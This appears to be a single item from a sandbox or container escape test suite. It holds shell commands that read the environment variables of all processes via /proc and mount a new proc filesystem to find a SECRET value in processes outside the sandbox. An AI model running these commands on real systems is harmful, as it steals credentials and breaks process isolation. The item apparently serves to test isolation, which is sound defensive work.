# Category: ptrace and signals to outside processes
# Escape: reads the environment of a process outside.
# Sign: secret
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep ^SECRET=
mkdir -p "/mnt/$TOKEN" && mount -t proc proc "/mnt/$TOKEN" && cat "/mnt/$TOKEN"/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep ^SECRET=
umount "/mnt/$TOKEN"; rmdir "/mnt/$TOKEN"
